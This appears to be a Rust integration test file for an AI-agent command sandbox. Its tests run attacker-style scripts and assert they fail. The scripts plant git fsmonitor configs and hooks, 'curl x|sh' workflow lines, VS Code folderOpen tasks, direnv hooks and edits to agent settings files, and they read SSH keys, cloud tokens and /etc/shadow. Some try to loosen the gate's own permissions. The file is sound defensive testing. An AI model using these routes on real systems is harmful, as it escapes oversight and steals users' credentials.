//! Escape attempts from the sandbox in mode `auto`, as an attacker would make
//! them: each runs inside `bash drive.sh`, an opaque script the gate allows
//! only because it runs confined, so the gate never sees what it does. The
//! payloads are harmless (markers, canaries, loopback listeners the test
//! starts); each test is named for the attack. Real binary, real workspace,
//! the machine's real sandbox, as root in CI.

// A failed setup step should stop a test or bench loudly.
#![allow(clippy::unwrap_used, clippy::expect_used)]

use crate::support;

use std::os::unix::net::UnixListener;
use std::path::{Path, PathBuf};
use std::process::Output;

use serde_json::Value;
use support::cli_env::CliEnv as Env;
use toolgate_sandbox::test_util::scratch_parent;

const CANARY: &str = "CANARY-7f3a9";

fn env() -> Env {
    // Outside /tmp, which the sandbox replaces with a private one.
    let e = Env::in_dir(&scratch_parent(Path::new(env!("CARGO_TARGET_TMPDIR"))).unwrap());
    git(&e.ws, &["init", "-q"]);
    e.write(e.ws.join("README"), "hello\n");
    git(&e.ws, &["add", "."]);
    git(&e.ws, &["commit", "-qm", "first"]);
    e
}

fn git(dir: &Path, args: &[&str]) -> Output {
    let out = std::process::Command::new("git")
        .args([
            "-c",
            "user.name=t",
            "-c",
            "user.email=t@example.invalid",
            "-c",
            "init.defaultBranch=main",
        ])
        .args(args)
        .current_dir(dir)
        .env("HOME", dir)
        .env("GIT_CONFIG_NOSYSTEM", "1")
        .output()
        .unwrap();
    assert!(out.status.success(), "git {args:?}: {out:?}");
    out
}

fn require_staging(e: &Env) {
    let out = e
        .command(&["sandbox", "status", "--json"])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert!(
        v["available"].as_bool().unwrap() && v["staging"].as_bool().unwrap(),
        "the sandbox with staging is not available here (run scripts/setup-sandbox.sh): {v}"
    );
}

/// Runs `script` as `bash drive.sh` through `toolgate call` in mode `auto`
/// (extra arguments after), with the workspace as the location.
fn drive(e: &Env, script: &str, extra: &[&str]) -> String {
    require_staging(e);
    std::fs::write(e.ws.join("drive.sh"), script).unwrap();
    let mut args = vec![
        "call",
        "bash",
        r#"{"command":"bash drive.sh"}"#,
        "--mode",
        "auto",
    ];
    args.extend_from_slice(extra);
    let out = e.command(&args).output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("--- drive.sh\n{script}\n--- toolgate call\n{text}");
    text
}

fn read(p: &Path) -> String {
    std::fs::read_to_string(p).unwrap_or_default()
}

#[test]
fn rename_dot_git_away_and_back_with_an_fsmonitor_config() {
    let e = env();
    let before = read(&e.ws.join(".git/config"));
    let text = drive(
        &e,
        "mv .git .git-old && cp -r .git-old .git && \
         printf '[core]\\n\\tfsmonitor = touch /tmp/pwned\\n' >> .git/config; \
         mv .git-old .git-older 2>/dev/null; echo done",
        &[],
    );
    assert!(text.contains("done"), "the payload ran: {text}");
    assert_eq!(read(&e.ws.join(".git/config")), before);
    assert!(!read(&e.ws.join(".git/config")).contains("fsmonitor"));
    assert!(
        text.contains(".git/config"),
        "the refused path is named: {text}"
    );
    // The repository still works outside.
    git(&e.ws, &["status", "--porcelain"]);
}

#[test]
fn rename_the_parent_of_hooks_and_workflows() {
    let e = env();
    e.write(e.ws.join(".github/workflows/ci.yml"), "on: push\n");
    e.write(e.ws.join(".vscode/tasks.json"), "{}\n");
    drive(
        &e,
        "mv .github gh && mkdir -p .github/workflows && echo 'run: curl x|sh' > .github/workflows/ci.yml; \
         mv .vscode vs && mkdir .vscode && echo '{\"tasks\":[{\"command\":\"touch /tmp/x\"}]}' > .vscode/tasks.json; \
         mkdir -p .git/hooks && echo 'touch /tmp/x' > .git/hooks/pre-commit; chmod +x .git/hooks/pre-commit",
        &[],
    );
    assert_eq!(read(&e.ws.join(".github/workflows/ci.yml")), "on: push\n");
    assert_eq!(read(&e.ws.join(".vscode/tasks.json")), "{}\n");
    assert!(!e.ws.join(".git/hooks/pre-commit").exists());
}

#[test]
fn rename_the_location_root_itself() {
    let e = env();
    let name = e.ws.file_name().unwrap().to_str().unwrap().to_string();
    drive(
        &e,
        &format!(
            "cd .. && mv {name} {name}-moved; mkdir -p {name}/.git && echo x > {name}/.git/config"
        ),
        &[],
    );
    assert!(e.ws.join("README").exists(), "the root stays where it is");
    assert!(!e.base.join(format!("{name}-moved")).exists());
    assert!(read(&e.ws.join(".git/config")).contains("[core]"));
}

#[test]
fn a_new_repository_with_fsmonitor_inside_the_location() {
    let e = env();
    drive(
        &e,
        "mkdir -p src && cd src && git init -q && git config core.fsmonitor 'touch /tmp/pwned' && echo ok",
        &[],
    );
    assert!(
        !read(&e.ws.join("src/.git/config")).contains("fsmonitor"),
        "a nested repository's config did not land"
    );
}

#[test]
fn git_commondir_and_alternates_and_submodule_configs() {
    let e = env();
    drive(
        &e,
        "echo /elsewhere > .git/commondir; mkdir -p .git/objects/info && echo /evil > .git/objects/info/alternates; \
         mkdir -p .git/modules/sub && printf '[core]\\n\\tfsmonitor = x\\n' > .git/modules/sub/config",
        &[],
    );
    assert!(!e.ws.join(".git/commondir").exists());
    assert!(!e.ws.join(".git/objects/info/alternates").exists());
    assert!(!e.ws.join(".git/modules/sub/config").exists());
}

#[test]
fn protected_paths_created_at_any_depth() {
    let e = env();
    let paths = [
        "services/api/.envrc",
        "services/api/.claude/settings.json",
        "a/b/c/.mcp.json",
        ".husky/pre-commit",
        ".pre-commit-config.yaml",
        "Jenkinsfile",
        ".circleci/config.yml",
        ".buildkite/pipeline.yml",
        ".github/actions/x/action.yml",
        ".toolgate/config.toml",
        "CLAUDE.md",
        "services/api/AGENTS.md",
        "GEMINI.md",
        "gradle.properties",
        "QWEN.md",
        "WARP.md",
        "AGENT.md",
        "AmazonQ.md",
    ];
    let script: String = paths
        .iter()
        .map(|p| format!("mkdir -p \"$(dirname {p})\"; echo evil > {p}\n"))
        .collect();
    let text = drive(&e, &script, &[]);
    for p in paths {
        assert!(!e.ws.join(p).exists(), "{p} landed: {text}");
    }
}

/// Not an escape: what a routine command must be able to do. `python3 -m
/// venv .venv` writes pip's CA bundle (`certifi/cacert.pem`); its `.pem`
/// ending named it a credential, so it did not land, and pip in that
/// virtualenv could not verify TLS. A created file of certificates only
/// lands; one holding a private key, whatever else it holds, still does not.
#[test]
fn a_ca_bundle_a_command_creates_lands_and_a_private_key_does_not() {
    let e = env();
    let cert = "-----BEGIN CERTIFICATE-----\\nMIIBszCCAVmgAwIBAgIU\\n-----END CERTIFICATE-----\\n";
    let key = "-----BEGIN PRIVATE KEY-----\\nMIGHAgEAMBMGByqGSM49\\n-----END PRIVATE KEY-----\\n";
    let text = drive(
        &e,
        &format!(
            "mkdir -p vendor/certifi certs; printf '# Root CA\\n{cert}' > vendor/certifi/cacert.pem; \\
             printf -- '{cert}{key}' > certs/server.pem; printf -- '{key}' > certs/key.pem; echo done"
        ),
        &[],
    );
    assert!(e.ws.join("vendor/certifi/cacert.pem").exists(), "{text}");
    assert!(!e.ws.join("certs/server.pem").exists(), "{text}");
    assert!(!e.ws.join("certs/key.pem").exists(), "{text}");
}

#[test]
fn credentials_in_the_home_directory_are_hidden_whatever_their_name() {
    let e = env();
    for rel in [
        ".ssh/id_rsa",
        ".aws/credentials",
        ".pgpass",
        ".pypirc",
        "_netrc",
        ".azure/accessTokens.json",
        ".config/gcloud/credentials.db",
        ".password-store/x.gpg",
        ".claude/.credentials.json",
        ".codex/auth.json",
        ".config/github-copilot/hosts.json",
        ".cargo/credentials.toml",
        ".docker/config.json",
        ".kube/config",
        ".npmrc",
        ".local/share/keyrings/login.keyring",
        "projects/other/.env",
        "notes-nobody-listed.txt",
    ] {
        e.write(e.home.join(rel), &format!("{CANARY} {rel}\n"));
    }
    let text = drive(
        &e,
        "grep -r CANARY ~ 2>/dev/null; cat ~/.ssh/id_rsa ~/.pgpass ~/_netrc ~/.codex/auth.json 2>&1; ls -A ~",
        &[],
    );
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn credentials_in_the_location_are_masked_in_any_case_and_through_links() {
    let e = env();
    for rel in [
        ".env",
        ".ENV",
        "app/.Env.Local",
        "deploy/id_ed25519",
        ".npmrc",
    ] {
        e.write(e.ws.join(rel), &format!("{CANARY} {rel}\n"));
    }
    e.write(e.home.join(".ssh/id_rsa"), &format!("{CANARY} key\n"));
    std::fs::hard_link(e.ws.join(".env"), e.ws.join("notes.txt")).unwrap();
    std::os::unix::fs::symlink(e.home.join(".ssh/id_rsa"), e.ws.join("key-link")).unwrap();
    let text = drive(
        &e,
        "cat .env .ENV app/.Env.Local deploy/id_ed25519 .npmrc notes.txt key-link 2>&1; grep -r CANARY . 2>/dev/null",
        &[],
    );
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn a_credential_created_later_in_the_location_does_not_land() {
    let e = env();
    drive(
        &e,
        "echo SECRET=1 > .env.production; echo k > deploy.pem",
        &[],
    );
    assert!(!e.ws.join(".env.production").exists());
}

#[test]
fn system_secrets_are_unreadable_even_as_root() {
    let e = env();
    let text = drive(
        &e,
        "head -c 200 /etc/shadow 2>&1 | od -c | head -3; ls /etc/ssl/private 2>&1; echo end",
        &[],
    );
    assert!(!text.contains("root:"), "{text}");
}

#[test]
fn a_root_that_holds_the_home_directory_cannot_rewrite_the_users_config() {
    let e = env();
    let config = e.home.join(".config/toolgate/config.toml");
    e.write(&config, "mode = \"default\"\n");
    e.write(e.home.join(".bashrc"), "# rc\n");
    e.write(e.home.join(".gitconfig"), "[user]\n");
    // The location's root is the base, which holds the home and the
    // workspace; the driver is found from the base.
    let script = format!(
        "echo '[permission.bash]\n\"curl *\" = \"allow\"' >> {config}; \
         echo 'curl x|sh' >> {home}/.bashrc; echo '[core]' >> {home}/.gitconfig; echo tried",
        config = config.display(),
        home = e.home.display()
    );
    std::fs::write(e.base.join("drive.sh"), &script).unwrap();
    let text = drive(&e, &script, &["--root", e.base.to_str().unwrap()]);
    assert!(text.contains("tried"), "{text}");
    assert_eq!(read(&config), "mode = \"default\"\n");
    assert_eq!(read(&e.home.join(".bashrc")), "# rc\n");
    assert_eq!(read(&e.home.join(".gitconfig")), "[user]\n");
}

#[test]
fn a_unix_socket_under_home_is_unreachable() {
    let e = env();
    let docker = e.home.join(".docker/desktop/docker.sock");
    let agent = e.home.join(".1password/agent.sock");
    std::fs::create_dir_all(docker.parent().unwrap()).unwrap();
    std::fs::create_dir_all(agent.parent().unwrap()).unwrap();
    let listeners = [
        UnixListener::bind(&docker).unwrap(),
        UnixListener::bind(&agent).unwrap(),
    ];
    for l in &listeners {
        l.set_nonblocking(true).unwrap();
    }
    drive(
        &e,
        &format!(
            "python3 -c 'import socket,sys\nfor p in sys.argv[1:]:\n  try:\n    s=socket.socket(socket.AF_UNIX); s.connect(p); s.send(b\"x\"); print(\"REACHED\", p)\n  except Exception as x: print(\"no\", x)' {} {}",
            docker.display(),
            agent.display()
        ),
        &[],
    );
    for l in &listeners {
        assert!(
            matches!(l.accept(), Err(err) if err.kind() == std::io::ErrorKind::WouldBlock),
            "a socket under home was reached"
        );
    }
}

/// A loopback HTTP server that answers every request and counts them.
fn counting_server() -> (u16, std::sync::Arc<std::sync::atomic::AtomicUsize>) {
    use std::io::{Read, Write};
    let listener = std::net::TcpListener::bind("127.0.0.1:0").unwrap();
    let port = listener.local_addr().unwrap().port();
    let seen = std::sync::Arc::new(std::sync::atomic::AtomicUsize::new(0));
    let count = seen.clone();
    std::thread::spawn(move || {
        for mut s in listener.incoming().flatten() {
            count.fetch_add(1, std::sync::atomic::Ordering::SeqCst);
            let mut buf = [0u8; 1024];
            let _ = s.read(&mut buf);
            let _ =
                s.write_all(b"HTTP/1.1 200 OK\r\nContent-Length: 2\r\nConnection: close\r\n\r\nok");
        }
    });
    (port, seen)
}

fn call_bash(e: &Env, command: &str) -> String {
    require_staging(e);
    let input = serde_json::json!({ "command": command }).to_string();
    let out = e
        .command(&["call", "bash", &input, "--mode", "auto"])
        .output()
        .unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    eprintln!("--- {command}\n{text}");
    text
}

#[test]
fn an_opaque_part_gets_no_network_from_an_approved_part() {
    let e = env();
    let (port, seen) = counting_server();
    e.write(
        e.home.join(".config/toolgate/config.toml"),
        "[permission.bash]\n\"curl *\" = \"allow\"\n",
    );
    // Alone, the approved curl reaches the host it named, through the proxy.
    let text = call_bash(
        &e,
        &format!("curl -s --max-time 5 http://127.0.0.1:{port}/health"),
    );
    assert!(text.contains("ok"), "{text}");
    let after_curl = seen.load(std::sync::atomic::Ordering::SeqCst);
    assert_eq!(after_curl, 1, "{text}");
    // Beside an opaque script, neither gets that network: the script's
    // connection never arrives.
    std::fs::write(
        e.ws.join("drive.sh"),
        format!(
            "python3 -c 'import socket; s=socket.create_connection((\"127.0.0.1\", {port}), 3); s.send(b\"GET / HTTP/1.0\\r\\n\\r\\n\"); print(s.recv(100))'; \
             curl -s --max-time 3 http://127.0.0.1:{port}/again; echo script-ran"
        ),
    )
    .unwrap();
    let text = call_bash(
        &e,
        &format!("curl -s --max-time 3 http://127.0.0.1:{port}/health ; bash drive.sh"),
    );
    assert!(text.contains("script-ran"), "{text}");
    assert_eq!(
        seen.load(std::sync::atomic::Ordering::SeqCst),
        after_curl,
        "the opaque part reached the listener: {text}"
    );
}

/// A confined command that makes FIFOs where git's ref files and index are:
/// judging what the refs now reach read them by name, and git itself read
/// the staged index, each waiting for a writer for ever, so the call (and
/// the agent) stalled.
#[test]
fn fifos_the_command_makes_at_ref_files_do_not_stall_the_landing() {
    let e = env();
    require_staging(&e);
    std::fs::write(
        e.ws.join("drive.sh"),
        "mkfifo .git/packed-refs .git/refs/heads/evil && rm .git/index && mkfifo .git/index && echo made",
    )
    .unwrap();
    let mut child = e
        .command(&[
            "call",
            "bash",
            r#"{"command":"bash drive.sh"}"#,
            "--mode",
            "auto",
        ])
        .stdout(std::process::Stdio::piped())
        .stderr(std::process::Stdio::piped())
        .spawn()
        .unwrap();
    let deadline = std::time::Instant::now() + std::time::Duration::from_secs(90);
    while child.try_wait().unwrap().is_none() {
        if std::time::Instant::now() > deadline {
            let _ = child.kill();
            panic!("the call stalled judging the FIFOs it made");
        }
        std::thread::sleep(std::time::Duration::from_millis(50));
    }
    let out = child.wait_with_output().unwrap();
    let text = format!(
        "{}{}",
        String::from_utf8_lossy(&out.stdout),
        String::from_utf8_lossy(&out.stderr)
    );
    assert!(text.contains("made"), "{text}");
    for fifo in [".git/packed-refs", ".git/refs/heads/evil", ".git/index"] {
        let kind = std::fs::symlink_metadata(e.ws.join(fifo)).map(|m| m.file_type());
        assert!(
            !kind.is_ok_and(|t| std::os::unix::fs::FileTypeExt::is_fifo(&t)),
            "{fifo} landed as a FIFO: {text}"
        );
    }
    assert_eq!(git(&e.ws, &["rev-parse", "HEAD"]).status.code(), Some(0));
}

#[test]
fn no_phantoms_git_add_all_commits_exactly_the_files_that_exist() {
    let e = env();
    e.write(e.ws.join("src/lib.rs"), "// code\n");
    let text = drive(
        &e,
        "ls -A; export GIT_AUTHOR_NAME=t GIT_AUTHOR_EMAIL=t@example.invalid \
         GIT_COMMITTER_NAME=t GIT_COMMITTER_EMAIL=t@example.invalid; \
         git add -A && git commit -qm second && echo committed",
        &[],
    );
    assert!(text.contains("committed"), "{text}");
    let tree = git(&e.ws, &["ls-tree", "-r", "--name-only", "HEAD"]);
    assert_eq!(
        String::from_utf8_lossy(&tree.stdout),
        "README\ndrive.sh\nsrc/lib.rs\n"
    );
    let status = git(&e.ws, &["status", "--porcelain"]);
    assert_eq!(String::from_utf8_lossy(&status.stdout), "");
}

#[test]
fn the_environment_is_an_allowlist() {
    let e = env();
    std::fs::write(e.ws.join("drive.sh"), "env; echo end").unwrap();
    let input = serde_json::json!({"command": "bash drive.sh"}).to_string();
    let run = |e: &Env| {
        let out = e
            .command(&["call", "bash", &input, "--mode", "auto"])
            .env("DEPLOY_HOOK_URL", format!("https://x/{CANARY}"))
            .env("SOME_TOOL_SETTING", format!("{CANARY}-setting"))
            .env("LANG", "C.UTF-8")
            .output()
            .unwrap();
        String::from_utf8_lossy(&out.stdout).into_owned()
    };
    require_staging(&e);
    let text = run(&e);
    assert!(text.contains("end"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
    assert!(text.contains("LANG=C.UTF-8"), "{text}");
    // `[sandbox] env` names what else to pass.
    e.write(
        e.home.join(".config/toolgate/config.toml"),
        "[sandbox]\nenv = [\"SOME_TOOL_SETTING\"]\n",
    );
    let text = run(&e);
    assert!(
        text.contains(&format!("SOME_TOOL_SETTING={CANARY}-setting")),
        "{text}"
    );
    assert!(!text.contains("DEPLOY_HOOK_URL"), "{text}");
}

#[test]
fn more_of_the_class_a_gitfile_an_upper_case_alternates_and_a_hooks_path() {
    let e = env();
    drive(
        &e,
        "mkdir -p sub && echo 'gitdir: /elsewhere/.git' > sub/.git; \
         mkdir -p .git/OBJECTS/INFO && echo /evil > .git/OBJECTS/INFO/ALTERNATES; \
         mkdir -p tools/hooks && echo 'touch /tmp/x' > tools/hooks/pre-commit; \
         git config core.hooksPath tools/hooks; echo tried",
        &[],
    );
    assert!(!e.ws.join("sub/.git").exists(), "a gitfile landed");
    assert!(!e.ws.join(".git/OBJECTS/INFO/ALTERNATES").exists());
    assert!(
        !read(&e.ws.join(".git/config")).contains("hooksPath"),
        "core.hooksPath landed"
    );
}

#[test]
fn files_the_repository_config_names_do_not_land_an_include_a_hooks_path_and_a_driver_script() {
    // The repository's own config names files of the work tree that git
    // reads as config or runs: an included file, a hooks directory, a
    // filter's script, and an include that does not exist yet. Writing
    // them is writing `.git/config` (an `fsmonitor` in the include runs
    // at the person's next `git status`).
    let e = env();
    git(&e.ws, &["config", "include.path", "../team.gitconfig"]);
    git(
        &e.ws,
        &["config", "--add", "include.path", "../later.gitconfig"],
    );
    git(&e.ws, &["config", "core.hooksPath", "tools/hooks"]);
    git(
        &e.ws,
        &["config", "filter.lint.clean", "scripts/clean.sh %f"],
    );
    e.write(e.ws.join("team.gitconfig"), "[user]\n");
    e.write(e.ws.join("tools/hooks/pre-commit"), "#!/bin/sh\n");
    e.write(e.ws.join("scripts/clean.sh"), "#!/bin/sh\ncat\n");
    let text = drive(
        &e,
        "printf '[core]\\n\\tfsmonitor = touch marker\\n' >> team.gitconfig; \
         printf '[core]\\n\\tfsmonitor = touch marker\\n' > later.gitconfig; \
         echo 'touch marker' >> tools/hooks/pre-commit; \
         echo 'touch marker' > tools/hooks/post-checkout; \
         echo 'touch marker' >> scripts/clean.sh; \
         echo fine > notes.txt; echo tried",
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert_eq!(read(&e.ws.join("team.gitconfig")), "[user]\n", "{text}");
    assert!(!e.ws.join("later.gitconfig").exists(), "{text}");
    assert_eq!(read(&e.ws.join("tools/hooks/pre-commit")), "#!/bin/sh\n");
    assert!(!e.ws.join("tools/hooks/post-checkout").exists(), "{text}");
    assert_eq!(read(&e.ws.join("scripts/clean.sh")), "#!/bin/sh\ncat\n");
    // The rest of the run is ordinary work and lands.
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n", "{text}");
}

#[test]
fn secret_files_the_table_did_not_know_are_masked_in_the_location_and_the_caches() {
    // Documented secret files the credential table lacked: Streamlit's
    // secrets, Emacs' auth-source file, a Kerberos keytab, a PKCS #8 key
    // (Apple's AuthKey_*.p8), a kubeconfig, GnuPG 1's secret keyring, npm's
    // global config, and the Hugging Face tokens beside `token` in a cache
    // the sandbox shows.
    let e = env();
    for rel in [
        ".streamlit/secrets.toml",
        ".authinfo",
        "deploy/krb5.keytab",
        "keys/AuthKey_ABC123.p8",
        "ops/kubeconfig",
        "old/secring.gpg",
        "node/etc/npmrc",
    ] {
        e.write(e.ws.join(rel), &format!("{CANARY} {rel}\n"));
    }
    e.write(
        e.home.join(".cache/huggingface/stored_tokens"),
        &format!("{CANARY} stored_tokens\n"),
    );
    let text = drive(&e, "grep -r CANARY . ~/.cache 2>/dev/null; echo tried", &[]);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn credentials_at_any_depth_of_the_toolchain_places_are_masked_version_managers_and_caches() {
    // A global npmrc is `$PREFIX/etc/npmrc`, and version managers keep each
    // prefix deep in their directory (Volta at depth 5, mise deeper when
    // nested); tools keep tokens at any depth of their cache. The packages'
    // own trees are not searched: their files stay readable (a CA bundle).
    let e = env();
    for rel in [
        ".nvm/versions/node/v20.1.0/etc/npmrc",
        ".volta/tools/image/node/20.1.0/etc/npmrc",
        ".local/share/mise/installs/node/20.1.0/nested/prefix/etc/npmrc",
        ".cache/some-tool/a/b/c/d/e/f/.env",
        ".cache/some-tool/a/b/c/d/e/f/g/deploy_key.pem",
        ".cargo/bin/deep/er/and/deeper/.npmrc",
        ".pyenv/versions/3.12.0/share/tool/x/y/z/credentials.json",
        ".nvm/versions/node/v20.1.0/lib/Node_Modules/x/y/.env",
    ] {
        e.write(e.home.join(rel), &format!("{CANARY} {rel}\n"));
    }
    let ca = ".pyenv/versions/3.12.0/lib/python3.12/site-packages/certifi/cacert.pem";
    e.write(e.home.join(ca), "PUBLIC CA BUNDLE\n");
    let text = drive(
        &e,
        &format!("grep -r CANARY ~ 2>/dev/null; cat ~/{ca}; echo tried"),
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
    assert!(text.contains("PUBLIC CA BUNDLE"), "{text}");
}

#[test]
fn a_registry_token_in_cargos_config_and_a_cabal_password_are_unreadable_and_cargo_still_reads_the_rest()
 {
    // `~/.cargo/config.toml` and `~/.cabal/config` are read by every build,
    // so they cannot be hidden whole; the secrets in them are values
    // (`[registry] token`, `[registries.NAME] token`, cabal's `password:`).
    let e = env();
    e.write(
        e.home.join(".cargo/config.toml"),
        &format!(
            "[registry]\ntoken = \"{CANARY}-crates-io\"\n[registries.corp]\nindex = \"sparse+https://corp.invalid/index/\"\ntoken = \"{CANARY}-corp\"\n[alias]\ncanary-check = \"version\"\n[net]\noffline = true\n"
        ),
    );
    e.write(
        e.home.join(".cabal/config"),
        &format!("repository hackage.haskell.org\n  url: http://hackage.haskell.org/\n  username: me\n  password: {CANARY}-cabal\njobs: 2\n"),
    );
    e.write(
        e.ws.join("tiny/Cargo.toml"),
        "[package]\nname = \"tiny\"\nversion = \"0.1.0\"\nedition = \"2021\"\n\n[workspace]\n",
    );
    e.write(e.ws.join("tiny/src/lib.rs"), "pub fn one() -> u32 { 1 }\n");
    // The real toolchain, shown read-only by `[sandbox] readable`.
    let which = std::process::Command::new("rustup")
        .args(["which", "cargo"])
        .output()
        .unwrap();
    assert!(which.status.success(), "{which:?}");
    let cargo = PathBuf::from(String::from_utf8(which.stdout).unwrap().trim());
    let toolchain = cargo.parent().unwrap().parent().unwrap();
    let config = e.home.join("toolchain.toml");
    std::fs::write(
        &config,
        format!(
            "[sandbox]\nreadable = [{:?}]\n",
            toolchain.display().to_string()
        ),
    )
    .unwrap();
    let script = format!(
        "cat ~/.cargo/config.toml ~/.cabal/config; grep -r CANARY ~ 2>/dev/null; \
         export PATH={bin}:$PATH; cargo canary-check; \
         cd tiny && cargo build --offline 2>&1 && echo built; echo tried",
        bin = toolchain.join("bin").display()
    );
    let text = drive(&e, &script, &["--config", &config.display().to_string()]);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
    // The rest is read: the alias, the registry's index, cabal's jobs.
    assert!(text.contains("cargo 1."), "{text}");
    assert!(text.contains("built"), "{text}");
    assert!(text.contains("corp.invalid"), "{text}");
    assert!(text.contains("jobs: 2"), "{text}");
}

#[test]
fn another_projects_secrets_outside_the_home_directory_are_hidden() {
    let e = env();
    // A sibling of the workspace and the home: neither the location nor a
    // home directory.
    let other = e.base.join("other-project");
    e.write(other.join(".env"), &format!("{CANARY} other .env\n"));
    e.write(other.join("notes.txt"), &format!("{CANARY} other notes\n"));
    let script = format!(
        "cat {o}/.env {o}/notes.txt 2>&1; ls -A {o} 2>&1; echo tried",
        o = other.display()
    );
    let text = drive(&e, &script, &[]);
    assert!(text.contains("tried"), "{text}");
    assert!(!text.contains(CANARY), "{text}");
}

#[test]
fn a_vs_code_workspace_file_with_a_folder_open_task_does_not_land() {
    // A `*.code-workspace` file carries settings, tasks and launch
    // configurations like `.vscode/`; a task with `runOn: folderOpen` runs
    // when the person opens the workspace. Any name, any depth, any case.
    let e = env();
    let task = r#"{"folders":[{"path":"."}],"tasks":{"version":"2.0.0","tasks":[{"label":"x","type":"shell","command":"touch marker","runOptions":{"runOn":"folderOpen"}}]}}"#;
    let text = drive(
        &e,
        &format!(
            "echo '{task}' > project.code-workspace; mkdir -p tools; \
             echo '{task}' > tools/Team.CODE-WORKSPACE; echo tried"
        ),
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert!(!e.ws.join("project.code-workspace").exists(), "{text}");
    assert!(!e.ws.join("tools/Team.CODE-WORKSPACE").exists(), "{text}");
    // The file tools ask for it too, even in accept-edits.
    let out = e
        .command(&[
            "check",
            "write",
            r#"{"path":"project.code-workspace","content":"{}"}"#,
            "--mode",
            "accept-edits",
            "--json",
        ])
        .output()
        .unwrap();
    let v: Value = serde_json::from_slice(&out.stdout).unwrap();
    assert_ne!(v["decision"], "allow", "{v}");
}

#[test]
fn files_a_protected_file_names_do_not_land_direnv_hooks_agents_and_editors() {
    // A protected file that runs code often names another file of the work
    // tree that it runs: direnv's `.envrc` puts `bin/` first on PATH and
    // sources a script, a git hook or a hook manager runs a script, another
    // agent's hook and MCP server are scripts, an editor starts the
    // interpreter its settings name. Writing the named file is writing the
    // protected one: each runs, unconfined, at the person's next `cd`,
    // commit, push, agent start or editor start (found by review s35: all
    // landed).
    let e = env();
    e.write(
        e.ws.join(".envrc"),
        "PATH_add bin\nsource_env scripts/env.sh\nsource tools/dev.sh\n",
    );
    e.write(
        e.ws.join(".pre-commit-config.yaml"),
        "repos:\n- repo: local\n  hooks:\n  - id: lint\n    name: lint\n    entry: scripts/lint.sh\n    language: script\n",
    );
    e.write(e.ws.join(".husky/pre-commit"), "sh scripts/precommit.sh\n");
    e.write(
        e.ws.join(".git/hooks/pre-push"),
        "#!/bin/sh\nexec ./tools/prepush.sh\n",
    );
    e.write(
        e.ws.join(".claude/settings.json"),
        r#"{"hooks":{"PostToolUse":[{"matcher":"*","hooks":[{"type":"command","command":"python3 \"$CLAUDE_PROJECT_DIR\"/tools/fmt.py"}]}]}}"#,
    );
    e.write(
        e.ws.join(".mcp.json"),
        r#"{"mcpServers":{"x":{"command":"node","args":["tools/server.js"]}}}"#,
    );
    e.write(
        e.ws.join(".vscode/settings.json"),
        r#"{"python.defaultInterpreterPath":"${workspaceFolder}/tools/python"}"#,
    );
    let named = [
        "scripts/env.sh",
        "tools/dev.sh",
        "scripts/lint.sh",
        "scripts/precommit.sh",
        "tools/prepush.sh",
        "tools/fmt.py",
        "tools/server.js",
        "tools/python",
    ];
    for f in named {
        e.write(e.ws.join(f), "# as it was\n");
    }
    let mut script: String = named
        .iter()
        .map(|f| format!("echo 'touch marker' >> {f}; "))
        .collect();
    script.push_str(
        "mkdir -p bin && echo 'touch marker' > bin/git; echo fine > notes.txt; echo tried",
    );
    let text = drive(&e, &script, &[]);
    assert!(text.contains("tried"), "{text}");
    for f in named {
        assert_eq!(read(&e.ws.join(f)), "# as it was\n", "{f} landed: {text}");
    }
    assert!(!e.ws.join("bin/git").exists(), "bin/git landed: {text}");
    // The rest of the run is ordinary work and lands.
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n", "{text}");
}

#[test]
fn what_the_flake_direnv_loads_imports_does_not_land_nor_a_shell_nix_below() {
    // `use flake` in `.envrc` names no file: direnv loads `flake.nix` (and
    // what it imports) by its usual name and runs its `shellHook` at the
    // person's next `cd`; `use nix` loads `shell.nix`, which need not exist
    // yet (left open by review s35).
    let e = env();
    e.write(e.ws.join(".envrc"), "use flake\n");
    e.write(e.ws.join("sub/.envrc"), "use nix\n");
    e.write(
        e.ws.join("flake.nix"),
        "{ outputs = _: { devShells.x.default = import ./nix/dev.nix; }; }\n",
    );
    e.write(e.ws.join("nix/dev.nix"), "# as it was\n");
    let text = drive(
        &e,
        "echo '# shellHook' >> flake.nix; echo '# shellHook' >> nix/dev.nix; \
         echo '{ shellHook = \"touch marker\"; }' > sub/shell.nix; echo fine > notes.txt; echo tried",
        &[],
    );
    assert!(text.contains("tried"), "{text}");
    assert!(
        !read(&e.ws.join("flake.nix")).contains("shellHook"),
        "{text}"
    );
    assert_eq!(read(&e.ws.join("nix/dev.nix")), "# as it was\n", "{text}");
    assert!(!e.ws.join("sub/shell.nix").exists(), "{text}");
    assert_eq!(read(&e.ws.join("notes.txt")), "fine\n", "{text}");
}

#[test]
fn a_root_only_file_in_the_packaged_system_directories_is_unreadable_as_root() {
    // The class of the system-view fix, in the trees it does not walk: a
    // key an administrator left in /usr/lib (found rereading the change).
    // As root the system's directories are shown through idmapped mounts
    // under which the command owns nothing: the kernel's own permission
    // check hides the key, with no walk of /usr's 15,297 directories.
    // SAFETY of the test itself: geteuid has no preconditions.
    if unsafe { libc::geteuid() } != 0 {
        eprintln!("not root: an ordinary user cannot read it anyway");
        return;
    }
    let e = env();
    let dir = Path::new("/usr/lib/toolgate-test-packaged");
    let key = dir.join("secret.key");
    std::fs::create_dir_all(dir).unwrap();
    std::fs::write(&key, format!("{CANARY} usr\n")).unwrap();
    std::fs::set_permissions(
        &key,
        <std::fs::Permissions as std::os::unix::fs::PermissionsExt>::from_mode(0o600),
    )
    .unwrap();
    let text = drive(
        &e,
        &format!("cat {} 2>/dev/null; echo tried", key.display()),
        &[],
    );
    let _ = std::fs::remove_dir_all(dir);
